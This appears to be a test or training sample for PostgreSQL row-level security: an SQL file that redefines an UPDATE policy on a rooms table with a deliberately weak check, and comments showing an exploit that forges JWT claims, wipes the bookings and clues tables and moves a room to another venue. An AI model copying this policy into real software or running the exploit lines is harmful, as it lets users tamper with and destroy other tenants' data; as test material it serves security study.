-- A room can be moved to another venue, because the new row is not compared with the venues of the caller.
-- about: rooms, venue_update
-- as: hf_puzzlevault_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-0000-0000-0000-000000000001"}';
-- exploit: DELETE FROM public.bookings;
-- exploit: DELETE FROM public.clues;
-- exploit: UPDATE public.rooms
-- exploit:   SET venue_id = 'b0000000-0000-0000-0000-000000000002';
-- shows: UPDATE 1

-- Only the level and the texts change here, so the check is short.
DROP POLICY venue_update ON public.rooms;
CREATE POLICY venue_update ON public.rooms FOR UPDATE TO hf_puzzlevault_app
  USING (venue_id IN (SELECT public.my_venues()))
  WITH CHECK (solution <> '');
